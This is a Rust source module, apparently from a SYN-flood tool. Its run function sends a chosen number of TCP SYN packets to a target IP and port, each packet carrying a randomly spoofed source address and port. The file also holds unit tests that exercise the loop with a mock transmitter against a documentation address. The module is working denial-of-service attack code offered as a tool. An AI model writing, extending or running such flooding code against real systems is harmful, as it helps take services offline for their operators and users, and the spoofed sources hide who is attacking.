use crate::error::FloodError;
use crate::packet::SynPacket;
use crate::sender::Transmit;

use std::net::Ipv4Addr;
use tracing::{debug, info};

pub const DEFAULT_PORT: u16 = 80;
pub const DEFAULT_COUNT: i64 = 10;

/// What to flood and how many packets to send.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FloodRequest {
    pub target: Ipv4Addr,
    pub port: u16,
    pub count: i64,
}

impl FloodRequest {

    pub fn new(target: Ipv4Addr, port: u16, count: i64) -> FloodRequest {
        FloodRequest { target, port, count }
    }

    /// Number of packets the run will send. Zero or negative counts send nothing.
    pub fn packets(&self) -> u64 {
        self.count.max(0) as u64
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FloodSummary {
    pub sent: u64,
}

/// Sends `request.count` SYN packets, one after another, each with a fresh
/// random source. Stops at the first failed send.
pub fn run<T: Transmit + ?Sized>(request: &FloodRequest, transmitter: &mut T) -> Result<FloodSummary, FloodError> {
    info!("Sending {} SYN packets to {}:{}", request.packets(), request.target, request.port);

    let mut sent = 0;
    while sent < request.packets() {
        let packet = SynPacket::random(request.target, request.port);
        transmitter.transmit(&packet)
            .map_err(|source| FloodError::Transmit { sent, source })?;
        sent += 1;
        debug!("packet {} from {}:{}", sent, packet.source, packet.source_port);
    }

    info!("Sent {} packets", sent);
    Ok(FloodSummary { sent })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::source::SOURCE_PORT_MIN;
    use pnet::packet::tcp::TcpFlags;
    use std::collections::HashSet;
    use std::io;

    #[derive(Default)]
    struct Recorder {
        sent: Vec<SynPacket>,
        fail_after: Option<usize>,
    }

    impl Transmit for Recorder {
        fn transmit(&mut self, packet: &SynPacket) -> io::Result<()> {
            if self.fail_after == Some(self.sent.len()) {
                return Err(io::Error::new(io::ErrorKind::PermissionDenied, "operation not permitted"));
            }
            self.sent.push(*packet);
            Ok(())
        }
    }

    const TARGET: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 10);

    #[test]
    fn sends_exactly_count_packets() {
        for count in [0, 1, 7, 50] {
            let mut recorder = Recorder::default();
            let summary = run(&FloodRequest::new(TARGET, 80, count), &mut recorder).expect("run");
            assert_eq!(recorder.sent.len() as i64, count);
            assert_eq!(summary.sent as i64, count);
        }
    }

    #[test]
    fn five_packets_to_https() {
        let mut recorder = Recorder::default();
        run(&FloodRequest::new(TARGET, 443, 5), &mut recorder).expect("run");

        assert_eq!(recorder.sent.len(), 5);
        for packet in &recorder.sent {
            assert_eq!(packet.destination, TARGET);
            assert_eq!(packet.destination_port, 443);
            assert_eq!(packet.flags(), TcpFlags::SYN);
            assert_eq!(packet.source.octets()[0], 10);
            assert!(packet.source_port >= SOURCE_PORT_MIN);
        }

        let sources: HashSet<_> = recorder.sent.iter().map(|p| (p.source, p.source_port)).collect();
        assert_eq!(sources.len(), 5);
    }

    #[test]
    fn zero_count_is_a_no_op() {
        let mut recorder = Recorder::default();
        let summary = run(&FloodRequest::new(TARGET, 80, 0), &mut recorder).expect("run");
        assert!(recorder.sent.is_empty());
        assert_eq!(summary, FloodSummary { sent: 0 });
    }

    #[test]
    fn negative_count_sends_nothing() {
        let mut recorder = Recorder::default();
        let summary = run(&FloodRequest::new(TARGET, 80, -3), &mut recorder).expect("run");
        assert!(recorder.sent.is_empty());
        assert_eq!(summary.sent, 0);
    }

    #[test]
    fn stops_at_first_failure() {
        let mut recorder = Recorder { fail_after: Some(3), ..Default::default() };
        let err = run(&FloodRequest::new(TARGET, 80, 10), &mut recorder).unwrap_err();

        assert_eq!(recorder.sent.len(), 3);
        match err {
            FloodError::Transmit { sent, source } => {
                assert_eq!(sent, 3);
                assert_eq!(source.kind(), io::ErrorKind::PermissionDenied);
            }
            other => panic!("unexpected error: {}", other),
        }
    }

    #[test]
    fn works_through_trait_object() {
        let mut recorder = Recorder::default();
        let transmitter: &mut dyn Transmit = &mut recorder;
        run(&FloodRequest::new(TARGET, 8080, 2), transmitter).expect("run");
        assert_eq!(recorder.sent.len(), 2);
        assert!(recorder.sent.iter().all(|p| p.destination_port == 8080));
    }
}
